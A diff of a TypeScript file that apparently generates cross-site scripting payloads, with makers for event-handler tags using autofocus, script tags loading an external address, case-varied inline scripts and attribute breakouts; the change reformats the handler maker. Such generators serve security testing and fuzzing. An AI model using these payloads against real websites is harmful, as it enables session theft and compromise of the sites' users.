@@ -39,7 +39,7 @@ const ESCAPES = [
 
 /** One kind of payload each. */
 const makers: Record<string, Make> = {
-  handler: (code, address, pick) => pick(CASES)(`<${pick(TAGS)} src="${address}" `) + `${pick(EVENTS)}="${code}" autofocus open>`,
+  handler: (code, address, pick) => [pick(CASES)(`<${pick(TAGS)} src="${address}"`), `${pick(EVENTS)}="${code}" autofocus open>`].join(' '),
   script: (code, address, pick) => `${pick(ESCAPES)}<script src="${address}">${code}</script>`,
   'script-inline': (code, _address, pick) => `${pick(ESCAPES)}<${pick(['script', 'SCRIPT', 'svg><script', 'script\n'])}>${code}</script>`,
   attribute: (code, _address, pick) => `${pick(['"', "'", '', '&quot;'])} ${pick(EVENTS)}=${pick(['"', "'", ''])}${code} x=`,
